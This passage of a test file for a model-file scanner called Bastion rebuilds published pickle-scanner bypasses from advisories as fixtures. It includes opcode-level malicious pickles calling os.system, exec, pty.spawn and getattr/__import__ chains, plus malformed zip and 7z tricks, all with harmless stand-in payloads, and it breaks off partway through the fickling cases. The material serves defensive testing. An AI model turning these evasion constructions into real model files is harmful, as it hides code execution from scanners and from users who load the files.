@@ -1,0 +1,1245 @@
+"""Every published bypass of a model-file scanner, rebuilt as a fixture Bastion must stop.
+
+Each case cites the advisory or write-up it comes from and says in one line what the trick
+is. The fixtures are built here from those descriptions (no exploit code is copied): pickles
+assembled opcode by opcode, archives written with the real writers and then altered the way
+the reports describe. Payloads are harmless (`true`, a `print`), and nothing here is ever
+loaded: the scanner reads the bytes, the tests read the report.
+
+What each case asserts is what a model hub needs: the default policy blocks the file (FAIL,
+or INCOMPLETE where the trick is a file no scanner can open), and the finding that names the
+technique reaches at least the stated severity. A published bypass of the form "the scanner
+flagged it, but too low to block" is exactly this severity check failing.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import io
+import json
+import pickle
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from bastion.findings import Finding, Severity, Verdict
+from bastion.scan.api import scan_path
+from corpus import builders, zips
+from corpus.payloads import SystemCall
+from corpus.pickles import (
+    BUILD,
+    EMPTY_DICT,
+    EMPTY_TUPLE,
+    MARK,
+    MEMOIZE,
+    NONE,
+    OBJ,
+    POP,
+    PROTO2,
+    PROTO4,
+    REDUCE,
+    SETITEM,
+    STACK_GLOBAL,
+    STOP,
+    TUPLE1,
+    binget,
+    binunicode,
+    glob,
+    short_unicode,
+)
+
+# Harmless stand-ins for the reports' payloads; never executed (nothing here is loaded).
+SHELL = "true"
+CODE = "print('bastion-bypass-canary')"
+TUPLE2 = b"\x86"
+EMPTY_LIST = b"]"
+APPENDS = b"e"
+
+# Rule sets, by what the technique is. A case passes when one of its rules reaches its severity.
+CALLS = frozenset({"pickle.dangerous-global", "pickle.unknown-callable", "pickle.attribute-path", "pickle.call-chain"})
+DANGEROUS = frozenset({"pickle.dangerous-global"})
+KERAS = frozenset({"keras.lambda-layer", "keras.unsafe-module", "keras.custom-object"})
+TF_OPS = frozenset({"tf.python-op", "tf.file-op"})
+
+
+@dataclass(frozen=True)
+class Bypass:
+    """One published trick, the fixture that reproduces it, and what Bastion must report."""
+
+    id: str
+    source: str
+    """Advisory id or write-up title, and its URL."""
+    trick: str
+    build: Callable[[Path], Path]
+    rules: frozenset[str]
+    severity: Severity = Severity.HIGH
+    verdicts: frozenset[Verdict] = frozenset({Verdict.FAIL})
+
+
+def check(case: Bypass, tmp_path: Path) -> None:
+    target = case.build(tmp_path)
+    report = scan_path(target)
+    verdict = report.verdict(Severity.HIGH)
+    story = f"{case.id} ({case.trick}; {case.source}): {_summary(report.findings)}"
+    assert verdict in case.verdicts, f"expected {sorted(v.value for v in case.verdicts)}, got {verdict.value}: {story}"
+    named = [f for f in report.findings if f.rule_id in case.rules and f.severity >= case.severity]
+    assert named, f"expected one of {sorted(case.rules)} at {case.severity.name} or above: {story}"
+
+
+def _summary(findings: tuple[Finding, ...]) -> str:
+    # Evidence can be a whole base64 payload: keep each finding to one readable line.
+    return "; ".join(f"{f.rule_id} {f.severity.name}: {f.message[:160]}" for f in findings) or "no findings"
+
+
+# -- pickle assembly -----------------------------------------------------------------------------
+
+
+def stack_global(module: str, name: str) -> bytes:
+    """STACK_GLOBAL from two short strings (protocol 4): the name may be a dotted qualname."""
+    return short_unicode(module) + short_unicode(name) + STACK_GLOBAL
+
+
+def args(*values: object) -> bytes:
+    """The opcodes that push `values` as one tuple (plain data only, written by pickle itself)."""
+    return pickle.dumps(tuple(values), protocol=3)[2:-1]
+
+
+def call(module: str, name: str, *values: object) -> bytes:
+    """A whole stream: import `module.name` and call it with `values`, as a `__reduce__` would."""
+    return PROTO4 + stack_global(module, name) + args(*values) + REDUCE + STOP
+
+
+NESTED_OS_SYSTEM = PROTO2 + glob("os", "system") + binunicode(SHELL) + TUPLE1 + REDUCE + STOP
+"""A complete malicious pickle, carried as bytes by gadgets that unpickle their argument."""
+
+
+@dataclass(frozen=True)
+class FileWith:
+    """Builds a file holding exactly `data` (kept, so the stream itself can be checked)."""
+
+    name: str
+    data: bytes
+
+    def __call__(self, folder: Path) -> Path:
+        path = folder / self.name
+        path.write_bytes(self.data)
+        return path
+
+
+# -- picklescan advisories: callables missing from a deny-list -----------------------------------
+# https://github.com/mmaitre314/picklescan/security: each advisory is one callable that runs code
+# (or a shell, or another pickle) and was missing from picklescan's list of unsafe globals.
+# Bastion's rule is allow-list first: every such callable must be refused at HIGH or above.
+
+PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
+
+_GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
+    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {}), "exec under cProfile in torch"),
+    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {}), "exec under autograd profiler"),
+    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, CODE), "eval of a guard expression"),
+    (
+        "GHSA-f4x7-rfwp-v3xw",
+        "torch.fx.experimental.symbolic_shapes",
+        "ShapeEnv.evaluate_guards_expression",
+        ({}, CODE, []),
+        "eval of a shape-guard expression",
+    ),
+    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (SHELL,), "shell command from torch's env collector"),
+    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {}), "exec wrapper in torch.jit"),
+    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, CODE), "trace.Trace.run execs its string"),
+    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, CODE, {}, {}), "trace.Trace.runctx execs its string"),
+    ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, CODE), "profile.Profile.run execs its string"),
+    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, CODE, {}, {}), "profile.Profile.runctx execs its string"),
+    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, CODE), "IDLE tree item evals its text"),
+    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, CODE), "IDLE autocomplete evals a name"),
+    (
+        "GHSA-7cq8-mj8x-j263",
+        "idlelib.autocomplete",
+        "AutoComplete.fetch_completions",
+        ({}, CODE, 1),
+        "IDLE completion evals its argument",
+    ),
+    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, CODE), "code.InteractiveInterpreter runs code"),
+    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, CODE), "IDLE calltip evals an expression"),
+    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (CODE,), "IDLE get_entity evals an expression"),
+    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (["install", "example-package"],), "ensurepip runs pip"),
+    (
+        "GHSA-p9w7-82w4-7q8m",
+        "lib2to3.pgen2.pgen",
+        "ParserGenerator.make_label",
+        (None, {}, '""+' + CODE),
+        "lib2to3 evals a grammar label",
+    ),
+    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, CODE), "IDLE executive runs code"),
+    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, CODE), "IDLE shell runs a command"),
+    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, CODE), "IDLE shell runs code"),
+    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (CODE, True), "doctest.debug_script execs a script"),
+    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (CODE, None, None), "cProfile.runctx execs its string"),
+    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", (CODE,), "cProfile.run execs its string"),
+    (
+        "GHSA-q77w-mwjj-7mqx",
+        "asyncio.unix_events",
+        "_UnixSubprocessTransport._start",
+        ({}, SHELL, True, None, None, None, 0),
+        "asyncio's subprocess transport spawns a shell",
+    ),
+    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file", ("pwned.env", ["content"]), "distutils writes a file"),
+    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL", (None,), "ctypes loads native code"),
+    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", SHELL],), "pty.spawn runs a program"),
+    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (CODE, []), "numpy.f2py evals an expression"),
+    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", ("", CODE), "timeit compiles and runs its setup string"),
+    ("GHSA-hgrh-qx5j-jfwx", "ssl", "get_server_certificate", (("example.invalid", 443),), "network call (DNS exfiltration)"),
+    (
+        "GHSA-655q-fx9r-782v",
+        "torch._inductor.codecache",
+        "compile_file",
+        ("", "", ["sh", "-c", SHELL]),
+        "torch inductor runs a compiler command",
+    ),
+    ("GHSA-655q-fx9r-782v", "pydoc", "pipepager", ("", SHELL), "pydoc pipes text into a shell command"),
+    ("GHSA-655q-fx9r-782v", "venv", "create", ("venv", False, False, True, False, SHELL), "venv.create runs a prompt command"),
+)
+
+
+def _gadget_case(ghsa: str, module: str, name: str, values: tuple[object, ...], trick: str) -> Bypass:
+    slug = name.replace(".", "-").replace("_", "").lower()
+    return Bypass(
+        f"picklescan-{ghsa}-{slug}", f"{ghsa}, {PICKLESCAN}{ghsa}", trick, FileWith("model.pkl", call(module, name, *values)), CALLS
+    )
+
+
+# run_and_read_all(run, cmd): the runner is itself a global handed over as an argument.
+_RUN_AND_READ_ALL = (
+    PROTO4
+    + stack_global("torch.utils.collect_env", "run_and_read_all")
+    + stack_global("torch.utils.collect_env", "run")
+    + short_unicode(SHELL)
+    + TUPLE2
+    + REDUCE
+    + STOP
+)
+
+# operator.methodcaller("system", cmd)(pydoc.locate("os")): neither name is os.system.
+_METHODCALLER_LOCATE = (
+    PROTO4
+    + stack_global("operator", "methodcaller")
+    + short_unicode("system")
+    + short_unicode(SHELL)
+    + TUPLE2
+    + REDUCE
+    + stack_global("pydoc", "locate")
+    + short_unicode("os")
+    + TUPLE1
+    + REDUCE
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# pkgutil.resolve_name("os:system")(cmd): one unlisted resolver reaches every listed function.
+_RESOLVE_NAME = (
+    PROTO4
+    + stack_global("pkgutil", "resolve_name")
+    + short_unicode("os:system")
+    + TUPLE1
+    + REDUCE
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# _operator.attrgetter("system")(builtins.__import__("os"))(cmd): the C module's name, not operator's.
+_C_OPERATOR_ATTRGETTER = (
+    PROTO4
+    + stack_global("_operator", "attrgetter")
+    + short_unicode("system")
+    + TUPLE1
+    + REDUCE
+    + stack_global("builtins", "__import__")
+    + short_unicode("os")
+    + TUPLE1
+    + REDUCE
+    + TUPLE1
+    + REDUCE
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# functools.partial(torch.load, path) with weights_only=False set through BUILD state, then called.
+def _partial_torch_load() -> bytes:
+    # partial.__setstate__ takes (func, args, kwds, namespace).
+    state = stack_global("torch", "load") + args("other_model.bin")
+    state += EMPTY_DICT + short_unicode("weights_only") + b"\x89" + SETITEM + NONE
+    return (
+        PROTO4
+        + stack_global("functools", "partial")
+        + stack_global("torch", "load")
+        + TUPLE1
+        + REDUCE
+        + MARK
+        + state
+        + b"t"  # TUPLE (from MARK): (func, args, kwds, None)
+        + BUILD
+        + EMPTY_TUPLE
+        + REDUCE
+        + STOP
+    )
+
+
+# GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL fed by protocol-0 STRING opcodes, which yield str in Python 3.
+_STRING_STACK_GLOBAL = b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'" + SHELL.encode() + b"'\n" + TUPLE1 + REDUCE + STOP
+
+# picklescan issue #22 (ImaginaryCTF "Safe Pickle"): names stored with PUT and fetched with GET in
+# another order, with a decoy torch.LongStorage pair in the memo.
+_MEMO_SHUFFLE = (
+    b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
+    + b"g2\ng3\n"
+    + STACK_GLOBAL
+    + MARK
+    + b"V"
+    + SHELL.encode()
+    + b"\nt"
+    + REDUCE
+    + STOP
+)
+
+# CVE-2026-56315: standard-library helpers that run a command, missing from every deny-list.
+_STDLIB_COMMANDS = (
+    ("uuid", "_get_command_stdout", (SHELL,), "uuid runs a helper command"),
+    ("imaplib", "IMAP4_stream", (SHELL,), "imaplib spawns its stream command"),
+    ("_osx_support", "_read_output", (SHELL,), "_osx_support runs a command string"),
+)
+
+PICKLESCAN_CASES: tuple[Bypass, ...] = (
+    *(_gadget_case(*g) for g in _GADGETS),
+    Bypass(
+        "picklescan-CVE-2025-1716-pip-main",
+        "CVE-2025-1716 (Sonatype), https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
+        "pip.main installs a package from anywhere",
+        FileWith("model.pkl", call("pip", "main", ["install", "example-package", "--no-input", "-q"])),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-jhph-76pp-mggw-run-and-read-all",
+        f"GHSA-jhph-76pp-mggw, {PICKLESCAN}GHSA-jhph-76pp-mggw",
+        "a runner passed as an argument to torch's run_and_read_all",
+        FileWith("model.pkl", _RUN_AND_READ_ALL),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-h3qp-7fh3-f8h4-datapipe-decoder",
+        f"GHSA-h3qp-7fh3-f8h4, {PICKLESCAN}GHSA-h3qp-7fh3-f8h4",
+        "torch datapipe decoder unpickles the bytes it is handed",
+        FileWith("model.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED_OS_SYSTEM)),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-vv6j-3g6g-2pvj-config-module-load",
+        f"GHSA-vv6j-3g6g-2pvj, {PICKLESCAN}GHSA-vv6j-3g6g-2pvj",
+        "torch ConfigModule.load_config unpickles its bytes",
+        FileWith("model.pkl", call("torch.utils._config_module", "ConfigModule.load_config", {}, NESTED_OS_SYSTEM)),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-f54q-57x4-jg88-grammar-loads",
+        f"GHSA-f54q-57x4-jg88, {PICKLESCAN}GHSA-f54q-57x4-jg88",
+        "lib2to3 Grammar.loads unpickles its bytes",
+        FileWith("model.pkl", call("lib2to3.pgen2.grammar", "Grammar.loads", {}, NESTED_OS_SYSTEM)),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-84r2-jw7c-4r5q-methodcaller-locate",
+        f"GHSA-84r2-jw7c-4r5q, {PICKLESCAN}GHSA-84r2-jw7c-4r5q",
+        "operator.methodcaller('system') applied to pydoc.locate('os')",
+        FileWith("model.pkl", _METHODCALLER_LOCATE),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-vvpj-8cmc-gx39-pkgutil-resolve-name",
+        f"GHSA-vvpj-8cmc-gx39 (reported by ModelAudit), {PICKLESCAN}GHSA-vvpj-8cmc-gx39",
+        "pkgutil.resolve_name('os:system') reaches any function by a string",
+        FileWith("model.pkl", _RESOLVE_NAME),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-955r-x9j8-7rhh-c-operator",
+        "GHSA-955r-x9j8-7rhh and GHSA-46h3-79wf-xr6c (fixed by picklescan PR #54 'Fix _operator'), "
+        "https://github.com/mmaitre314/picklescan/pull/54",
+        "the C accelerator _operator.attrgetter instead of operator.attrgetter",
+        FileWith("model.pkl", _C_OPERATOR_ATTRGETTER),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-655q-fx9r-782v-partial-torch-load",
+        f"GHSA-655q-fx9r-782v, {PICKLESCAN}GHSA-655q-fx9r-782v",
+        "functools.partial(torch.load, other file, weights_only=False) called on load",
+        FileWith("model.pkl", _partial_torch_load()),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-GHSA-9gvj-pp9x-gcfr-string-stack-global",
+        f"GHSA-9gvj-pp9x-gcfr, {PICKLESCAN}GHSA-9gvj-pp9x-gcfr",
+        "STACK_GLOBAL's names pushed with protocol-0 STRING opcodes",
+        FileWith("model.pkl", _STRING_STACK_GLOBAL),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "picklescan-issue-22-memo-shuffle",
+        "picklescan issue #22 (ImaginaryCTF 'Safe Pickle'), https://github.com/mmaitre314/picklescan/issues/22",
+        "memo PUT/GET reorders names so STACK_GLOBAL builds os.system next to a torch decoy",
+        FileWith("model.pkl", _MEMO_SHUFFLE),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    *(
+        Bypass(
+            f"picklescan-CVE-2026-56315-{module.strip('_')}",
+            "CVE-2026-56315 (picklescan < 1.0.4), https://nvd.nist.gov/vuln/detail/CVE-2026-56315",
+            trick,
+            FileWith("model.pkl", call(module, name, *values)),
+            CALLS,
+        )
+        for module, name, values, trick in _STDLIB_COMMANDS
+    ),
+    Bypass(
+        "picklescan-CVE-2026-56304-logging-filehandler",
+        "CVE-2026-56304 (picklescan < 1.0.1), https://nvd.nist.gov/vuln/detail/CVE-2026-56304",
+        "logging.FileHandler creates files wherever the stream says",
+        FileWith("model.pkl", call("logging", "FileHandler", "/tmp/bastion-bypass-canary")),
+        CALLS,
+    ),
+)
+
+
+@pytest.mark.parametrize("case", PICKLESCAN_CASES, ids=lambda c: c.id)
+def test_picklescan_advisory_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- archives that picklescan read differently from PyTorch (Sonatype, JFrog) --------------------
+
+
+def _torch_malicious(folder: Path, name: str = "pytorch_model.bin") -> bytes:
+    return builders.torch_malicious(folder, name).read_bytes()
+
+
+def _with_flag_bits(data: bytes, suffix: str, bits: int) -> bytes:
+    """The archive with general-purpose flag `bits` set on the member ending in `suffix`, in both headers."""
+    out = bytearray(data)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        (info,) = [i for i in archive.infolist() if i.filename.endswith(suffix)]
+    struct.pack_into("<H", out, info.header_offset + 6, struct.unpack_from("<H", out, info.header_offset + 6)[0] | bits)
+    eocd = data.rfind(b"PK\x05\x06")
+    count, _size, pos = struct.unpack_from("<HII", data, eocd + 10)
+    for _ in range(count):
+        nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
+        if data[pos + 46 : pos + 46 + nlen].decode().endswith(suffix):
+            struct.pack_into("<H", out, pos + 8, struct.unpack_from("<H", out, pos + 8)[0] | bits)
+        pos += 46 + nlen + xlen + clen
+    return bytes(out)
+
+
+def _torch_altered(alter: Callable[[bytes], bytes], name: str = "pytorch_model.bin") -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        source = folder / "source"
+        source.mkdir()
+        path = folder / name
+        path.write_bytes(alter(_torch_malicious(source, name)))
+        return path
+
+    return build
+
+
+def _zip_of(member: str, data: bytes, name: str) -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        return builders.zip_with(folder, name, {member: data})
+
+    return build
+
+
+SONATYPE = "Sonatype, 'Picklescan vulnerabilities' (CVE-2025-1716, -1889, -1944, -1945)"
+JFROG_ZERO_DAYS = (
+    "JFrog, 'PyTorch Users at Risk: Unveiling 3 Zero-Day PickleScan Vulnerabilities', "
+    "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
+)
+
+ARCHIVE_CASES: tuple[Bypass, ...] = (
+    *(
+        Bypass(
+            f"sonatype-CVE-2025-1945-zip-flag-{bits:#04x}",
+            f"{SONATYPE}; GHSA-w8jq-xcqf-f792, {PICKLESCAN}GHSA-w8jq-xcqf-f792",
+            f"general-purpose flag bit {bits:#x} on data.pkl: Python's zipfile refuses it, PyTorch ignores it",
+            _torch_altered(lambda data, bits=bits: _with_flag_bits(data, "data.pkl", bits)),
+            DANGEROUS,
+            Severity.CRITICAL,
+        )
+        for bits in (0x1, 0x20, 0x40)
+    ),
+    Bypass(
+        "sonatype-CVE-2025-1944-local-name-mismatch",
+        f"{SONATYPE}; GHSA-7q5r-7gvp-wc82, {PICKLESCAN}GHSA-7q5r-7gvp-wc82",
+        "the local header names data.pkl 'datap.kl' while the central directory keeps data.pkl",
+        _torch_altered(lambda data: zips.with_local_name(data, "data.pkl", "datap.kl")),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "sonatype-CVE-2025-1889-member-extension",
+        f"{SONATYPE}; GHSA-769v-p64c-89pr, {PICKLESCAN}GHSA-769v-p64c-89pr",
+        "the pickle sits in a zip member named data.txt, not .pkl",
+        _zip_of("data.txt", NESTED_OS_SYSTEM, "model.zip"),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "jfrog-CVE-2025-10155-pickle-named-bin",
+        f"{JFROG_ZERO_DAYS}; GHSA-gx77-x2pv-48v7, {PICKLESCAN}GHSA-gx77-x2pv-48v7",
+        "a plain pickle named pytorch_model.bin: the PyTorch parser fails and no pickle scan follows",
+        FileWith("pytorch_model.bin", pickle.dumps(SystemCall(SHELL), protocol=4)),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "jfrog-CVE-2025-10156-bad-crc",
+        JFROG_ZERO_DAYS,
+        "data.pkl's CRC is wrong: zipfile raises, PyTorch's reader loads it anyway",
+        _torch_altered(lambda data: zips.with_bad_crc(data, "data.pkl")),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "jfrog-CVE-2025-10157-submodule-of-unsafe-module",
+        f"{JFROG_ZERO_DAYS}; GHSA-jgw4-cr84-mqxg, {PICKLESCAN}GHSA-jgw4-cr84-mqxg",
+        "asyncio.unix_events (a submodule of a listed module) spawns a shell, in a .bin file",
+        FileWith(
+            "pytorch_model.bin",
+            call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, SHELL, True, None, None, None, 0),
+        ),
+        CALLS,
+    ),
+)
+
+
+@pytest.mark.parametrize("case", ARCHIVE_CASES, ids=lambda c: c.id)
+def test_archive_read_differently_from_pytorch_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- ReversingLabs "nullifAI" ---------------------------------------------------------------------
+# ReversingLabs, "Malicious ML models discovered on Hugging Face platform" (nullifAI, Feb 2025),
+# https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face
+
+NULLIFAI = (
+    "ReversingLabs, 'Malicious ML models discovered on Hugging Face platform' (nullifAI), "
+    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
+)
+
+# The payload first, then a BINUNICODE whose length runs past the end: the unpickler has already
+# called exec when it fails, and a scanner that gives up on the error sees nothing.
+BROKEN_AFTER_PAYLOAD = (
+    PROTO2 + glob("builtins", "exec") + binunicode(CODE) + TUPLE1 + REDUCE + POP + b"X" + struct.pack("<I", 0x7FFF) + b"\x00junk"
+)
+
+
+def _seven_zip(member: str, payload: bytes) -> bytes:
+    """A 7z archive with one member stored by the Copy coder (7-Zip's format, written by hand)."""
+
+    def number(value: int) -> bytes:
+        # 7z's variable-length numbers: one byte below 0x80, two (0b10 prefix) below 0x4000.
+        if value < 0x80:
+            return bytes([value])
+        assert value < 0x4000
+        return bytes([0x80 | (value >> 8), value & 0xFF])
+
+    name = member.encode("utf-16-le") + b"\x00\x00"
+    header = (
+        b"\x01"  # Header
+        + b"\x04"  # MainStreamsInfo
+        + b"\x06" + number(0) + number(1) + b"\x09" + number(len(payload)) + b"\x00"  # PackInfo
+        + b"\x07" + b"\x0b" + number(1) + b"\x00"  # UnpackInfo, one folder, not external
+        + number(1) + b"\x01\x00"  # one coder: id size 1, simple; id 0x00 = Copy
+        + b"\x0c" + number(len(payload)) + b"\x00"  # CodersUnpackSize
+        + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(payload)) + b"\x00"  # SubStreamsInfo, CRC
+        + b"\x00"  # end of MainStreamsInfo
+        + b"\x05" + number(1) + b"\x11" + number(len(name) + 1) + b"\x00" + name + b"\x00"  # FilesInfo: names
+        + b"\x00"  # end of Header
+    )
+    tail = struct.pack("<QQI", len(payload), len(header), zlib.crc32(header))
+    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
+    return start + payload + header
+
+
+def _torch_with_data_pkl(payload: bytes) -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        source = builders.torch_state_dict(folder, "source.pt").read_bytes()
+        path = folder / "pytorch_model.bin"
+        path.write_bytes(zips.with_member_replaced(source, "data.pkl", payload))
+        return path
+
+    return build
+
+
+def _seven_zipped_torch(folder: Path) -> Path:
+    inner = _torch_with_data_pkl(BROKEN_AFTER_PAYLOAD)(folder).read_bytes()
+    path = folder / "pytorch_model.7z.bin"
+    path.write_bytes(_seven_zip("pytorch_model.bin", inner))
+    return path
+
+
+NULLIFAI_CASES: tuple[Bypass, ...] = (
+    Bypass(
+        "nullifai-broken-pickle-in-torch-zip",
+        NULLIFAI,
+        "the payload runs before a corrupt opcode stops the unpickler; scanners that fail on the error pass it",
+        _torch_with_data_pkl(BROKEN_AFTER_PAYLOAD),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "nullifai-broken-plain-pickle",
+        NULLIFAI,
+        "the same broken stream as a bare pickle file",
+        FileWith("model.pkl", BROKEN_AFTER_PAYLOAD),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "nullifai-7z-compressed-torch",
+        NULLIFAI,
+        "a PyTorch file compressed with 7z, which scanners skip; its content cannot be analysed",
+        _seven_zipped_torch,
+        frozenset({"scan.unsupported-format"}),
+        Severity.HIGH,
+        frozenset({Verdict.INCOMPLETE, Verdict.FAIL}),
+    ),
+)
+
+
+@pytest.mark.parametrize("case", NULLIFAI_CASES, ids=lambda c: c.id)
+def test_nullifai_model_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+def test_nullifai_files_give_non_zero_exit_codes_from_the_cli(tmp_path: Path) -> None:
+    """CLI level: the broken pickle exits 1 (unsafe), the 7z archive exits 2 (not analysed), never 0."""
+    broken = FileWith("model.pkl", BROKEN_AFTER_PAYLOAD)(tmp_path)
+    folder = tmp_path / "seven"
+    folder.mkdir()
+    seven = _seven_zipped_torch(folder)
+    codes = {}
+    for path in (broken, seven):
+        done = subprocess.run(
+            [sys.executable, "-m", "bastion.cli.main", "scan", str(path)], capture_output=True, text=True, check=False
+        )
+        codes[path.name] = done.returncode
+    assert codes == {"model.pkl": 1, seven.name: 2}, codes
+
+
+# -- fickling advisories ----------------------------------------------------------------------------
+
+FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
+
+
+def _memoised(*parts: bytes) -> bytes:
+    return b"".join(p + MEMOIZE for p in parts)
+
+
+# GHSA-r7v6-mfhq-g3m2: pty.spawn, then its result consumed by BUILD so no variable is left unused.
+_PTY_BUILD = PROTO4 + stack_global("pty", "spawn") + short_unicode("id") + TUPLE1 + REDUCE + short_unicode("x") + BUILD + STOP
+
+# fickling PR #108: the same import through the OBJ opcode (protocol 1).
+_PTY_OBJ = MARK + glob("pty", "spawn") + b"S'id'\n" + OBJ + STOP
+
+# GHSA-565g-hwwr-4pp3: code object from marshal.loads, made a function by types.FunctionType, called.
+_MARSHAL_FUNCTION = (
+    PROTO4
+    + stack_global("types", "FunctionType")
+    + stack_global("marshal", "loads")
+    + args(b"\xe3not-a-real-code-object")
+    + REDUCE
+    + EMPTY_DICT
+    + TUPLE2
+    + REDUCE
+    + EMPTY_TUPLE
+    + REDUCE
+    + STOP
+)
+
+# GHSA-5hvc-6wx8-mvv4: pydoc.locate of a dotted string, called, the result hidden in an object's state.
+_LOCATE_HIDDEN = (
+    glob("pydoc", "locate")
+    + b"S'os.system'\n"
+    + TUPLE1
+    + REDUCE
+    + b"p0\n0g0\n"
+    + b"S'" + SHELL.encode() + b"'\n"
+    + TUPLE1
+    + REDUCE
+    + b"p1\n0"
+    + glob("builtins", "Exception")
+    + EMPTY_TUPLE
+    + REDUCE
+    + EMPTY_DICT
+    + b"S'status'\ng1\n"
+    + SETITEM
+    + BUILD
+    + STOP
+)
+
+# GHSA-q5qq-mvfm-j35x: builtins.getattr on importlib.import_module("os"), then the call.
+_GETATTR_IMPORT_MODULE = (
+    PROTO4
+    + stack_global("builtins", "getattr")
+    + stack_global("importlib", "import_module")
+    + short_unicode("os")
+    + TUPLE1
+    + REDUCE
+    + short_unicode("system")
+    + TUPLE2
+    + REDUCE
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# GHSA-q5qq-mvfm-j35x: code.InteractiveInterpreter().runsource reached with getattr.
+_GETATTR_RUNSOURCE = (
+    PROTO4
+    + stack_global("builtins", "getattr")
+    + stack_global("code", "InteractiveInterpreter")
+    + EMPTY_TUPLE
+    + REDUCE
+    + short_unicode("runsource")
+    + TUPLE2
+    + REDUCE
+    + short_unicode(CODE)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# GHSA-h4rm-mm56-xf63: only builtins are imported (fickling did not show them): __import__ and getattr.
+_BUILTINS_ONLY = (
+    PROTO4
+    + stack_global("builtins", "getattr")
+    + stack_global("builtins", "__import__")
+    + short_unicode("os")
+    + TUPLE1
+    + REDUCE
+    + short_unicode("system")
+    + TUPLE2
+    + REDUCE
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
